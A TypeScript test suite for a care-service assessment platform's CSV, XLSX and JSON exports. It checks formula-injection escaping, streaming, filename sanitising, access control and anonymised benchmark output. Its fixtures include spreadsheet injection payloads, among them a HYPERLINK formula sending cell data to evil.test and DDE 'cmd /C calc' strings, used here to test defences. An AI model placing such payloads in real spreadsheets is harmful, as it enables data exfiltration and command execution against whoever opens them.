import { schema } from "@sequin/db";
import { testDrivers } from "@sequin/db/testing";
import { eq } from "drizzle-orm";
import { Schema } from "effect";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvStream } from "../src/resources/exports/Csv.ts";
import { exportFilename } from "../src/resources/exports/Download.ts";
import { type Cell, neutraliseCell, neutraliseText } from "../src/resources/exports/Neutralise.ts";
import { NetworkResults } from "../src/resources/exports/schemas.ts";
import type { Sheet } from "../src/resources/exports/Table.ts";
import { xlsxStream } from "../src/resources/exports/Xlsx.ts";
import { contentDisposition } from "../src/resources/uploads/Filenames.ts";
import {
  buildNetwork,
  Client,
  type Harness,
  type Network,
  startHarness,
} from "./support/harness.ts";
import {
  csvOf,
  parseCsv,
  rawGet,
  readChunks,
  records,
  sheetRecords,
  workbookOf,
} from "./support/spreadsheets.ts";

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];
const startsWithTrigger = (text: string) => TRIGGERS.some((trigger) => text.startsWith(trigger));

/** Classic payloads: DDE, HYPERLINK exfiltration, and the tab/CR prefixes some tools strip. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "line one\nline two",
  "\n",
];

const STANDARD_TEXT =
  "Service users choose, with staff, how technology is used on the ward, and review it every year.";

const sheetOf = (cells: ReadonlyArray<Cell>, name = "Test"): Sheet => ({
  name,
  section: name,
  columns: cells.map((_, index) => ({ key: `c${index}`, header: `C${index}`, width: 10 })),
  rows: async function* () {
    yield Object.fromEntries(cells.map((cell, index) => [`c${index}`, cell]));
  },
});

const failOnError = (error: unknown) => {
  throw error;
};

const bytesOf = (body: ReadableStream<Uint8Array>) => readChunks(body).then((read) => read.bytes);

describe("export writers", () => {
  it("prefixes exactly the text that starts with a trigger, and nothing else", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (text) => {
        const safe = neutraliseText(text);
        expect(startsWithTrigger(safe)).toBe(false);
        expect(safe).toBe(startsWithTrigger(text) ? `'${text}` : text);
        expect(neutraliseText(safe)).toBe(safe);
      }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...TRIGGERS), fc.string(), (trigger, rest) => {
        expect(neutraliseText(`${trigger}${rest}`)).toBe(`'${trigger}${rest}`);
      }),
    );
  });

  it("keeps numbers (negative ones too), days and empty cells as they are", () => {
    fc.assert(
      fc.property(fc.double(), (value) => {
        expect(neutraliseCell(value)).toBe(value);
      }),
    );
    expect(neutraliseCell(-2.5)).toBe(-2.5);
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell({ day: "2021-05-01" })).toEqual({ day: "2021-05-01" });
    expect(neutraliseCell("-2.5")).toBe("'-2.5");
  });

  it("writes any text to CSV so it parses back to the neutralised text, numbers as numbers", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...PAYLOADS)), {
          minLength: 1,
          maxLength: 6,
        }),
        fc.integer({ min: -1000, max: 1000 }),
        async (texts, number) => {
          const rows = csvOf(await bytesOf(csvStream([sheetOf([...texts, number])], failOnError)));
          expect(rows).toEqual([
            [...texts.map((_, index) => `C${index}`), `C${texts.length}`],
            // Lone surrogates cannot be written in UTF-8: they arrive as U+FFFD, as they must.
            [...texts.map((text) => neutraliseText(text).toWellFormed()), String(number)],
          ]);
        },
      ),
      { numRuns: 500 },
    );
  });

  it("writes any text to XLSX so no cell starts with a trigger, and numbers stay numbers", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.oneof(fc.string({ unit: "grapheme" }), fc.constantFrom(...PAYLOADS)), {
          minLength: 1,
          maxLength: 5,
        }),
        fc.integer({ min: -1000, max: 1000 }),
        async (texts, number) => {
          const workbook = await workbookOf(
            await bytesOf(xlsxStream([sheetOf([...texts, number])], failOnError)),
          );
          const values = (workbook.getWorksheet("Test")?.getRow(2).values ?? []) as Array<unknown>;
          texts.forEach((text, index) => {
            const value = values[index + 1];
            if (startsWithTrigger(text)) expect(String(value).startsWith("'")).toBe(true);
            if (typeof value === "string") expect(startsWithTrigger(value)).toBe(false);
          });
          expect(values[texts.length + 1]).toBe(number);
        },
      ),
      { numRuns: 15 },
    );
  });

  it.each([
    ["csv", csvStream],
    ["xlsx", xlsxStream],
  ] as const)(
    "produces %s rows only as fast as they are downloaded",
    async (_, write) => {
      const total = 20_000;
      // Ten columns of poorly compressible text, like real evidence: in XLSX the compressor is then
      // the bottleneck, which is where rows would pile up if nothing waited for it.
      const columns = Array.from({ length: 10 }, (_, index) => ({
        key: `c${index}`,
        header: `Column ${index}`,
        width: 20,
      }));
      const counted = () => {
        const counter = { produced: 0 };
        let seed = 20211122;
        const noise = () => {
          seed = (seed * 1103515245 + 12345) % 2 ** 31;
          return seed.toString(36);
        };
        const sheet: Sheet = {
          name: "Plan",
          section: "Action",
          columns,
          rows: async function* () {
            for (let index = 0; index < total; index++) {
              counter.produced++;
              yield Object.fromEntries(
                columns.map((column, at) => [
                  column.key,
                  at === 2 ? STANDARD_TEXT : `${index} ${noise()} ${noise()}`,
                ]),
              );
            }
          },
        };
        return { counter, sheet };
      };
      // A stalled download: production stops soon after the first chunk, and ends when cancelled.
      const stalled = counted();
      const stalledReader = write([stalled.sheet], failOnError).getReader();
      await stalledReader.read();
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(stalled.counter.produced).toBeLessThan(total / 2);
      await stalledReader.cancel();

      // A steady download: a quarter of the bytes out means about a quarter of the rows made.
      const steady = counted();
      const reader = write([steady.sheet], failOnError).getReader();
      const progress: Array<{ bytes: number; produced: number }> = [];
      let bytes = 0;
      for (;;) {
        const next = await reader.read();
        if (next.done) break;
        bytes += next.value.byteLength;
        progress.push({ bytes, produced: steady.counter.produced });
      }
      expect(steady.counter.produced).toBe(total);
      const quarter = progress.find((step) => step.bytes >= bytes / 4);
      expect(quarter?.produced).toBeLessThan(total / 2);
      expect(stalled.counter.produced).toBeLessThan(total / 2);
    },
    60_000,
  );

  it("makes file names safe: no folders, quotes or control characters", () => {
    const name = exportFilename('../Rhôs "Hospital"\u202Egpj.exe\\x/y', "csv");
    // A leading dot would hide the file; the right-to-left override would disguise its type.
    expect(name).toBe("-Rhôs -Hospital-gpj.exe-x-y.csv");
    expect(contentDisposition(name)).toBe(
      `attachment; filename="-Rhos -Hospital-gpj.exe-x-y.csv"; filename*=UTF-8''-Rh%C3%B4s%20-Hospital-gpj.exe-x-y.csv`,
    );
    expect(exportFilename("", "xlsx")).toBe("SeQuIn export.xlsx");
  });
});

const TECHNOLOGY = Array.from({ length: 10 }, (_, i) => `TEC-${String(i + 1).padStart(2, "0")}`);
const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

describe.each(testDrivers())("exports on %s", (driver) => {
  let harness: Harness;
  let network: Network;
  let svc: string;

  /** An assessment through the API: views, agreed scores and words per standard; optionally submitted. */
  const assess = async (
    client: Client,
    serviceId: string,
    options: {
      cycle: string;
      area: string;
      wardId?: string;
      agreed: (standardId: string) => number | "na" | null;
      views?: { serviceUser: number; staff: number };
      words?: (standardId: string) => { rationale: string; evidence: string } | undefined;
      submit: boolean;
    },
  ) => {
    const created = await client.post(`/api/v1/services/${serviceId}/assessments`, {
      cycle: options.cycle,
      area: options.area,
      ...(options.wardId === undefined ? {} : { wardId: options.wardId }),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const assessment = created.body;
    for (const standard of assessment.standards) {
      const agreed = options.agreed(standard.standardId);
      if (agreed === null) continue;
      const answer = await client.put(
        `/api/v1/assessments/${assessment.id}/standards/${standard.standardId}`,
        {
          version: standard.version,
          views: options.views ?? { serviceUser: 2, staff: 3 },
          agreed,
          ...(options.words?.(standard.standardId) ?? { rationale: "Agreed.", evidence: "" }),
        },
      );
      expect(answer.status, JSON.stringify(answer.body)).toBe(200);
    }
    if (!options.submit) return assessment.id as string;
    const patched = await client.patch(`/api/v1/assessments/${assessment.id}`, {
      version: assessment.version,
      method: { kind: "involvement-group" },
      attendance: { serviceUsers: 4, staff: 2, carers: 0 },
    });
    expect(patched.status, JSON.stringify(patched.body)).toBe(200);
    const submitted = await client.post(`/api/v1/assessments/${assessment.id}/submit`, {
      version: patched.body.version,
    });
    expect(submitted.status, JSON.stringify(submitted.body)).toBe(200);
    return assessment.id as string;
  };

  beforeAll(async () => {
    harness = await startHarness(driver);
    network = await buildNetwork(harness);
    svc = `/api/v1/services/${network.serviceA.id}`;
    const [ash, birch] = network.serviceA.wards as [string, string];
    // 2021/22: A's Technology ward by ward (submitted), Involvement as a draft; B's Technology.
    await assess(network.leadA, network.serviceA.id, {
      cycle: "2021/22",
      area: "technology",
      wardId: ash,
      agreed: (id) => (id === "TEC-10" ? "na" : 2),
      words: (id) =>
        id === "TEC-01"
          ? { rationale: PAYLOADS[0] as string, evidence: "+1-1 minutes, Rhôs café ☕" }
          : undefined,
      submit: true,
    });
    await assess(network.leadA, network.serviceA.id, {
      cycle: "2021/22",
      area: "technology",
      wardId: birch,
      agreed: (id) => (id === "TEC-01" ? 1 : 3),
      views: { serviceUser: 3, staff: 3 },
      submit: true,
    });
    await assess(network.leadA, network.serviceA.id, {
      cycle: "2021/22",
      area: "involvement",
      agreed: (id) => (id === "INV-01" ? 1 : null),
      views: { serviceUser: 0, staff: 2 },
      words: () => ({
        rationale: "@SUM(A1:A2)",
        evidence: '-2+3 on the ward\nsecond line, with "quotes", commas',
      }),
      submit: false,
    });
    await assess(network.leadB, network.serviceB.id, {
      cycle: "2021/22",
      area: "technology",
      agreed: () => 3,
      words: () => ({ rationale: "B's own", evidence: "SECRET-B evidence" }),
      submit: true,
    });
    const overdue = await network.leadA.post(`${svc}/actions`, {
      cycle: "2021/22",
      standardId: "TEC-01",
      what: "=cmd|' /C calc'!A0",
      owner: "-Ward manager",
      due: "2021-05-01",
    });
    expect(overdue.status).toBe(201);
    const menu = await network.leadA.post(`${svc}/actions`, {
      cycle: "2021/22",
      standardId: "INV-02",
      what: "Review the café menu with service users",
      owner: "@chef",
      due: "2021-12-01",
    });
    expect(menu.status).toBe(201);
    const progressed = await network.leadA.patch(`${svc}/actions/${menu.body.id}`, {
      version: menu.body.version,
      status: "in-progress",
      outcome: "+2 new dishes each month",
    });
    expect(progressed.status, JSON.stringify(progressed.body)).toBe(200);

    // 2019/20 with a minimum of 2 participants: both services' Technology counts, not withheld.
    const cycle = await network.admin.post("/api/v1/cycles", {
      label: "2019/20",
      minimumParticipants: 2,
    });
    expect(cycle.status, JSON.stringify(cycle.body)).toBe(201);
    await assess(network.leadA, network.serviceA.id, {
      cycle: "2019/20",
      area: "technology",
      agreed: (id) => (id === "TEC-10" ? "na" : 2),
      submit: true,
    });
    await assess(network.leadB, network.serviceB.id, {
      cycle: "2019/20",
      area: "technology",
      agreed: () => 3,
      submit: true,
    });
    expect(
      (
        await network.leadB.patch(`/api/v1/services/${network.serviceB.id}`, {
          namedInBenchmarks: true,
        })
      ).status,
    ).toBe(200);
  }, 240_000);
  afterAll(() => harness.close());

  /** Service A's 2021/22 export as its lead downloads it. */
  const serviceCsv = async () => {
    const response = await rawGet(
      harness,
      network.leadA,
      `${svc}/cycles/2021-22/export?format=csv`,
    );
    expect(response.status).toBe(200);
    return { response, rows: csvOf(await bytesOf(response.body as ReadableStream)) };
  };

  it("exports a service's scores, ward breakdown and action plan as one CSV table", async () => {
    const { response, rows } = await serviceCsv();
    expect(response.body).toBeInstanceOf(ReadableStream);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe(
      `attachment; filename="Service A SeQuIn 2021-22.csv"; filename*=UTF-8''Service%20A%20SeQuIn%202021-22.csv`,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(rows[0]).toEqual([
      "Section",
      "Area",
      "Area score (%)",
      "Coverage",
      "Standard",
      "Standard text",
      "Ward",
      "Status",
      "Service-user view",
      "Staff view",
      "Carer view",
      "Agreed score",
      "Rationale",
      "Evidence",
      "Action",
      "Owner",
      "Due",
      "Overdue",
      "Outcome",
      "Carried from",
    ]);
    const all = records(rows);
    const scores = all.filter((row) => row.Section === "Score");
    const actions = all.filter((row) => row.Section === "Action");
    expect(scores.length + actions.length).toBe(all.length);

    // Involvement (a draft, whole service) comes before Technology, as in the standards set.
    const involvement = scores.filter((row) => row.Area === "Involvement");
    expect(involvement).toHaveLength(10);
    expect(involvement[0]).toMatchObject({
      Standard: "INV-01",
      Ward: "Whole service",
      Status: "Draft",
      "Area score (%)": "",
      "Service-user view": "0",
      "Staff view": "2",
      "Carer view": "",
      "Agreed score": "1",
      Rationale: "'@SUM(A1:A2)",
      Evidence: `'-2+3 on the ward\nsecond line, with "quotes", commas`,
    });
    expect(involvement[1]).toMatchObject({ Standard: "INV-02", "Agreed score": "", Rationale: "" });
    expect(involvement[0]?.["Standard text"]?.length).toBeGreaterThan(20);

    // Technology: per standard, the wards' mean, then Ash, then Birch.
    const technology = scores.filter((row) => row.Area === "Technology");
    expect(technology.map((row) => `${row.Standard} ${row.Ward}`)).toEqual(
      TECHNOLOGY.flatMap((id) => [`${id} All wards (mean)`, `${id} Ash ward`, `${id} Birch ward`]),
    );
    // Means: TEC-01 (2+1)/2, TEC-02..09 (2+3)/2, TEC-10 only Birch (Ash said N/A): 24.5 of 30.
    for (const row of technology) {
      expect(row).toMatchObject({ "Area score (%)": "81.7", Coverage: "2 of 2 wards" });
      expect(row.Status).toBe("Submitted");
    }
    const cell = (standard: string, ward: string) =>
      technology.find((row) => row.Standard === standard && row.Ward === ward);
    expect(cell("TEC-01", "All wards (mean)")?.["Agreed score"]).toBe("1.5");
    expect(cell("TEC-02", "All wards (mean)")?.["Agreed score"]).toBe("2.5");
    expect(cell("TEC-10", "All wards (mean)")?.["Agreed score"]).toBe("3");
    expect(cell("TEC-10", "Ash ward")?.["Agreed score"]).toBe("N/A");
    expect(cell("TEC-01", "Ash ward")).toMatchObject({
      "Service-user view": "2",
      "Staff view": "3",
      "Agreed score": "2",
      Rationale: `'${PAYLOADS[0]}`,
      Evidence: "'+1-1 minutes, Rhôs café ☕",
    });
    const results = await network.leadA.get(`${svc}/results?cycle=2021-22&area=technology`);
    expect(results.body.score.percent).toBeCloseTo(81.6667, 3);

    expect(actions).toEqual([
      expect.objectContaining({
        Area: "Involvement",
        Standard: "INV-02",
        Action: "Review the café menu with service users",
        Owner: "'@chef",
        Due: "2021-12-01",
        Status: "In progress",
        Overdue: "No",
        Outcome: "'+2 new dishes each month",
        "Carried from": "",
      }),
      expect.objectContaining({
        Area: "Technology",
        Standard: "TEC-01",
        Action: "'=cmd|' /C calc'!A0",
        Owner: "'-Ward manager",
        Due: "2021-05-01",
        Status: "Not started",
        Overdue: "Yes",
      }),
    ]);
    // Anywhere in the file, a cell starting with a trigger is a number, never text.
    for (const row of rows)
      for (const text of row)
        if (startsWithTrigger(text)) expect(Number.isFinite(Number(text))).toBe(true);
    expect(JSON.stringify(rows)).not.toContain("SECRET-B");
  });

  it("exports the same cells as an XLSX workbook with Scores and Action plan sheets", async () => {
    const response = await rawGet(
      harness,
      network.staffA,
      `${svc}/cycles/2021-22/export?format=xlsx`,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(response.headers.get("content-disposition")).toContain(
      'filename="Service A SeQuIn 2021-22.xlsx"',
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const workbook = await workbookOf(await bytesOf(response.body as ReadableStream));
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Scores", "Action plan"]);
    const scores = workbook.getWorksheet("Scores")!;
    expect(scores.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(scores.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(scores.getColumn(5).width).toBe(60);
    expect(scores.autoFilter).toBeTruthy();

    // Every CSV score row is in the workbook, cell for cell (numbers as numbers).
    const csv = records((await serviceCsv()).rows);
    const sheetRows = sheetRecords(scores);
    const csvScores = csv.filter((row) => row.Section === "Score");
    expect(sheetRows).toHaveLength(csvScores.length);
    sheetRows.forEach((row, index) => {
      for (const [header, value] of Object.entries(row)) {
        const expected = csvScores[index]?.[header];
        expect(value === null ? "" : String(value), header).toBe(expected);
      }
    });
    const ash = sheetRows.find((row) => row.Standard === "TEC-01" && row.Ward === "Ash ward")!;
    expect(ash["Area score (%)"]).toBe(81.7);
    expect(ash["Service-user view"]).toBe(2);
    expect(ash.Rationale).toBe(`'${PAYLOADS[0]}`);
    const plan = sheetRecords(workbook.getWorksheet("Action plan")!);
    expect(plan.map((row) => row.Action)).toEqual([
      "Review the café menu with service users",
      "'=cmd|' /C calc'!A0",
    ]);
    expect(plan[1]?.Owner).toBe("'-Ward manager");
    expect(plan[1]?.Due).toEqual(new Date("2021-05-01T00:00:00Z"));
    expect(workbook.getWorksheet("Action plan")!.getRow(3).getCell(6).numFmt).toBe("dd/mm/yyyy");
  });

  it("lets members and network admins export a service, and no one else", async () => {
    const path = (serviceId: string, format: string) =>
      `/api/v1/services/${serviceId}/cycles/2021-22/export?format=${format}`;
    for (const client of [network.leadA, network.repA, network.admin])
      expect((await rawGet(harness, client, path(network.serviceA.id, "xlsx"))).status).toBe(200);
    for (const format of ["csv", "xlsx"]) {
      for (const client of [network.leadA, network.staffA, network.repA]) {
        const answer = await client.get(path(network.serviceB.id, format));
        expect(answer.status).toBe(404);
        expect(JSON.stringify(answer.body)).not.toContain("SECRET-B");
      }
      expect((await new Client(harness).get(path(network.serviceA.id, format))).status).toBe(401);
    }
    const admin = await rawGet(harness, network.admin, path(network.serviceB.id, "csv"));
    expect(new TextDecoder().decode(await bytesOf(admin.body as ReadableStream))).toContain(
      "SECRET-B",
    );
  });

  it("answers 404 for an unknown cycle and 400 naming the field for an unknown format", async () => {
    for (const path of [
      `${svc}/cycles/2099-00/export`,
      `${svc}/cycles/nonsense/export?format=xlsx`,
      "/api/v1/cycles/2099-00/export",
    ]) {
      const answer = await network.admin.get(path);
      expect(answer.status, path).toBe(404);
      expect(answer.body.detail).toBe("No such cycle.");
    }
    expect((await new Client(harness).get("/api/v1/public/cycles/2099-00/export")).status).toBe(
      404,
    );
    for (const [client, path] of [
      [network.leadA, `${svc}/cycles/2021-22/export?format=pdf`],
      [network.leadA, `${svc}/cycles/2021-22/export?format=json`],
      [network.admin, "/api/v1/cycles/2021-22/export?format=XLSX"],
      [new Client(harness), "/api/v1/public/cycles/2021-22/export?format=html"],
    ] as const) {
      const answer = await client.get(path);
      expect(answer.status, path).toBe(400);
      expect(answer.body.errors.map((error: { field: string }) => error.field)).toEqual([
        "query.format",
      ]);
    }
  });

  it("exports the network's results anonymised, as the benchmark shows them", async () => {
    const benchmark = (await network.admin.get("/api/v1/cycles/2019-20/benchmark")).body;
    const response = await rawGet(
      harness,
      network.admin,
      "/api/v1/cycles/2019-20/export?format=json",
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("content-disposition")).toContain(
      'filename="SeQuIn network results 2019-20.json"',
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.body).toBeInstanceOf(ReadableStream);
    const document = JSON.parse(
      new TextDecoder().decode(await bytesOf(response.body as ReadableStream)),
    );
    // The documented shape, exactly: no undocumented keys either.
    Schema.decodeUnknownSync(NetworkResults)(document, { onExcessProperty: "error" });
    expect(document).toMatchObject({
      format: "sequin-network-results",
      version: 1,
      scope: "network",
      cycle: "2019/20",
      standardsVersion: expect.any(String),
      minimumParticipants: 2,
      previousCycle: null,
      generatedAt: harness.clock.now.toISOString(),
    });
    expect(document.areas).toHaveLength(12);
    const technology = document.areas.find((area: { area: string }) => area.area === "technology");
    const expected = benchmark.areas.find((area: { area: string }) => area.area === "technology");
    expect(technology.distribution).toEqual(expected.distribution);
    expect(technology).toMatchObject({ participants: 2, withheld: false });
    // A stays a code; B opted in to be named. Scores and flags are the benchmark's own.
    const codeA = expected.services.find(
      (service: { serviceId: string }) => service.serviceId === network.serviceA.id,
    ).code;
    expect(technology.services).toEqual(
      expected.services.map(
        (service: {
          code: string;
          serviceId: string;
          percent: number;
          percentile: number | null;
          bestPractice: boolean;
          focus: boolean;
        }) => ({
          code: service.code,
          name: service.serviceId === network.serviceB.id ? "Service B" : null,
          percent: service.percent,
          percentile: service.percentile,
          bestPractice: service.bestPractice,
          focus: service.focus,
          change: null,
        }),
      ),
    );
    const text = JSON.stringify(document);
    expect(text).toContain(codeA);
    expect(text).not.toContain("Service A");
    expect(text).not.toContain(network.serviceA.id);

    const csv = records(
      csvOf(
        await bytesOf(
          (await rawGet(harness, network.admin, "/api/v1/cycles/2019-20/export"))
            .body as ReadableStream,
        ),
      ),
    );
    expect(csv.filter((row) => row.Section === "Area")).toHaveLength(12);
    const serviceRows = csv.filter((row) => row.Section === "Service");
    expect(serviceRows.map((row) => row.Service).sort()).toEqual(
      technology.services.map((service: { code: string }) => service.code).sort(),
    );
    expect(serviceRows.find((row) => row.Service === codeA)).toMatchObject({
      Area: "Technology",
      "Name (if opted in)": "",
      "Score (%)": String(
        technology.services.find((s: { code: string }) => s.code === codeA).percent,
      ),
    });

    const workbook = await workbookOf(
      await bytesOf(
        (await rawGet(harness, network.admin, "/api/v1/cycles/2019-20/export?format=xlsx"))
          .body as ReadableStream,
      ),
    );
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Areas", "Services"]);
    const areaRow = sheetRecords(workbook.getWorksheet("Areas")!).find(
      (row) => row.Area === "Technology",
    );
    expect(areaRow).toMatchObject({
      Participants: 2,
      Withheld: "No",
      "Median (%)": technology.distribution.median,
    });

    const lead = await network.leadA.get("/api/v1/cycles/2019-20/export");
    expect(lead.status).toBe(403);
    expect((await new Client(harness).get("/api/v1/cycles/2019-20/export")).status).toBe(401);
  });

  it("keeps withheld areas withheld in the network and public exports", async () => {
    // 2021/22 needs 5 participants; Technology had 2.
    const codes = (await network.admin.get("/api/v1/cycles/2019-20/benchmark")).body.areas
      .flatMap((area: { services: Array<{ code: string }> }) => area.services)
      .map((service: { code: string }) => service.code);
    expect(codes.length).toBeGreaterThan(0);
    const network2122 = await network.admin.get("/api/v1/cycles/2021-22/export?format=json");
    const technology = network2122.body.areas.find(
      (area: { area: string }) => area.area === "technology",
    );
    expect(technology).toEqual({
      area: "technology",
      name: "Technology",
      participants: 2,
      withheld: true,
      distribution: null,
      services: [],
    });
    for (const format of ["json", "csv", "xlsx"]) {
      for (const [client, path] of [
        [network.admin, `/api/v1/cycles/2021-22/export?format=${format}`],
        [new Client(harness), `/api/v1/public/cycles/2021-22/export?format=${format}`],
      ] as const) {
        const response = await rawGet(harness, client, path);
        expect(response.status, path).toBe(200);
        const bytes = await bytesOf(response.body as ReadableStream);
        const text =
          format === "xlsx"
            ? JSON.stringify(
                (await workbookOf(bytes)).worksheets.map((sheet) => sheetRecords(sheet)),
              )
            : new TextDecoder().decode(bytes);
        for (const code of codes) expect(text, `${path} ${code}`).not.toContain(code);
        expect(text).not.toContain("Service B");
      }
    }
    const publicCsv = records(
      csvOf(
        await bytesOf(
          (await rawGet(harness, undefined, "/api/v1/public/cycles/2021-22/export?format=csv"))
            .body as ReadableStream,
        ),
      ),
    );
    expect(publicCsv).toHaveLength(12);
    expect(publicCsv.find((row) => row.Area === "Technology")).toEqual({
      Cycle: "2021/22",
      Area: "Technology",
      Participants: "2",
      Withheld: "Yes",
      "Min (%)": "",
      "Q1 (%)": "",
      "Median (%)": "",
      "Q3 (%)": "",
      "Max (%)": "",
      Note: "Withheld: fewer than 5 services took part",
    });
  });

  it("publishes exactly what the public benchmark shows, to anyone", async () => {
    const anyone = new Client(harness);
    const shown = (await anyone.get("/api/v1/public/cycles/2019-20/benchmark")).body;
    const response = await rawGet(
      harness,
      undefined,
      "/api/v1/public/cycles/2019-20/export?format=json",
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("public, max-age=60");
    const document = JSON.parse(
      new TextDecoder().decode(await bytesOf(response.body as ReadableStream)),
    );
    Schema.decodeUnknownSync(NetworkResults)(document, { onExcessProperty: "error" });
    expect(document).toEqual({
      format: "sequin-network-results",
      version: 1,
      scope: "public",
      cycle: "2019/20",
      standardsVersion: expect.any(String),
      minimumParticipants: 2,
      generatedAt: expect.any(String),
      areas: shown.areas,
    });
    const workbook = await workbookOf(
      await bytesOf(
        (await rawGet(harness, undefined, "/api/v1/public/cycles/2019-20/export?format=xlsx"))
          .body as ReadableStream,
      ),
    );
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(["Areas"]);
    const csv = await rawGet(harness, undefined, "/api/v1/public/cycles/2019-20/export");
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const rows = csvOf(await bytesOf(csv.body as ReadableStream));
    expect(rows[0]?.[0]).toBe("Cycle");
    expect(rows).toHaveLength(13);
  });

  it("streams a large export in many chunks, every row exactly once", async () => {
    const count = 2_600;
    const [organisation] = await harness.database.db
      .select({ id: schema.services.organisationId })
      .from(schema.services)
      .where(eq(schema.services.id, network.serviceA.id));
    const values = Array.from({ length: count }, (_, index) => ({
      organisationId: organisation!.id,
      serviceId: network.serviceA.id,
      cycle: "2021/22",
      standardId: TECHNOLOGY[index % TECHNOLOGY.length] as string,
      what: `=Bulk action ${index}`,
      owner: "Bulk owner",
      // Many share a due date, so paging must rely on the id too.
      due: `2021-0${(index % 9) + 1}-15`,
    }));
    for (let start = 0; start < values.length; start += 500)
      await harness.database.db.insert(schema.actions).values(values.slice(start, start + 500));

    const csvResponse = await rawGet(harness, network.leadA, `${svc}/cycles/2021-22/export`);
    expect(csvResponse.body).toBeInstanceOf(ReadableStream);
    const csv = await readChunks(csvResponse.body as ReadableStream<Uint8Array>);
    expect(csv.chunks).toBeGreaterThan(10);
    const bulk = records(csvOf(csv.bytes)).filter((row) => row.Owner === "Bulk owner");
    expect(bulk).toHaveLength(count);
    expect(new Set(bulk.map((row) => row.Action)).size).toBe(count);
    expect(bulk.every((row) => row.Action?.startsWith("'=Bulk action "))).toBe(true);

    const xlsxResponse = await rawGet(
      harness,
      network.leadA,
      `${svc}/cycles/2021-22/export?format=xlsx`,
    );
    const xlsx = await readChunks(xlsxResponse.body as ReadableStream<Uint8Array>);
    expect(xlsx.chunks).toBeGreaterThan(1);
    const plan = sheetRecords((await workbookOf(xlsx.bytes)).getWorksheet("Action plan")!);
    expect(plan.filter((row) => row.Owner === "Bulk owner")).toHaveLength(count);
  }, 120_000);

  it("stops quietly when the download is cancelled", async () => {
    const before = harness.logger.lines.length;
    for (const format of ["csv", "xlsx"]) {
      const response = await rawGet(
        harness,
        network.leadA,
        `${svc}/cycles/2021-22/export?format=${format}`,
      );
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      expect((await reader.read()).done).toBe(false);
      await reader.cancel();
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(
      harness.logger.lines
        .slice(before)
        .filter((line) => line.message === "export failed while streaming"),
    ).toEqual([]);
    // …and the next export is whole.
    expect((await serviceCsv()).rows.length).toBeGreaterThan(2_600);
  });
});

describe("the CSV parser used by these tests", () => {
  it("reads quoted fields, doubled quotes and line breaks inside quotes", () => {
    expect(parseCsv('a,"b,c","d ""e""\r\nf"\r\n,x\r\n')).toEqual([
      ["a", "b,c", 'd "e"\r\nf'],
      ["", "x"],
    ]);
  });
});
